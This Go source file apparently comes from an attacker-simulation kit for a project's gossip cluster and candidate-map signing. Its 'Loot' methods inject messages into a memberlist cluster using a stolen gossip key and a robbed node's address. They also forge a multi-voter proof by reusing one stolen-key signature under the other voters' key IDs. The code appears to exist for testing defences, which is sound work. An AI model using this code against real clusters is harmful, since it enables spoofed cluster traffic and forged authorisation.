package kit

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"

	"github.com/hashicorp/memberlist"

	"rolekey/candmap"
)

// gossipLabel begins every packet of the cluster's gossip; see docs/gossip.rst.
const gossipLabel = "1"

// Rumour sends messages to the gossip port of each node, with the stolen gossip
// key and from the robbed node's address, by packet and by stream.
func (l *Loot) Rumour(to []netip.AddrPort, messages ...[]byte) (err error) {
	if len(l.Gossip) == 0 {
		return fmt.Errorf("spread rumour: %s has no gossip key", l.Node.Name)
	}
	cfg := memberlist.DefaultLANConfig()
	cfg.Name = "rumour"
	cfg.BindAddr, cfg.BindPort, cfg.AdvertisePort = l.Node.Address, 0, 0
	cfg.SecretKey, cfg.Label = l.Gossip, gossipLabel
	cfg.LogOutput = io.Discard
	m, err := memberlist.Create(cfg)
	if err != nil {
		return fmt.Errorf("spread rumour: %w", err)
	}
	defer func() { err = errors.Join(err, m.Shutdown()) }()
	for _, at := range to {
		for _, msg := range messages {
			if err := m.SendToAddress(memberlist.Address{Addr: at.String(), Name: at.String()}, msg); err != nil {
				return fmt.Errorf("spread rumour by packet: %w", err)
			}
			node := &memberlist.Node{Name: at.String(), Addr: net.IP(at.Addr().AsSlice()), Port: at.Port()}
			if err := m.SendReliable(node, msg); err != nil {
				return fmt.Errorf("spread rumour by stream: %w", err)
			}
		}
	}
	return nil
}

// Pretend adds signatures that carry the ids of the map's other voters, but
// were made with the stolen key: a proof, as long as nobody checks it.
func (l *Loot) Pretend(env candmap.Envelope) (candmap.Envelope, error) {
	m, err := candmap.DecodeMap(l.Map.Payload)
	if err != nil {
		return env, fmt.Errorf("pretend: %w", err)
	}
	sig, err := candmap.Sign(l.Signing, env.PayloadType, env.Payload)
	if err != nil {
		return env, fmt.Errorf("pretend: %w", err)
	}
	var others []candmap.Signature
	for _, c := range m.Candidates {
		if id := candmap.KeyIDOf(c.Signing.Public()); c.Voter && id != sig.KeyID {
			others = append(others, candmap.Signature{KeyID: id, Sig: sig.Sig})
		}
	}
	return candmap.Merge(env, others...), nil
}
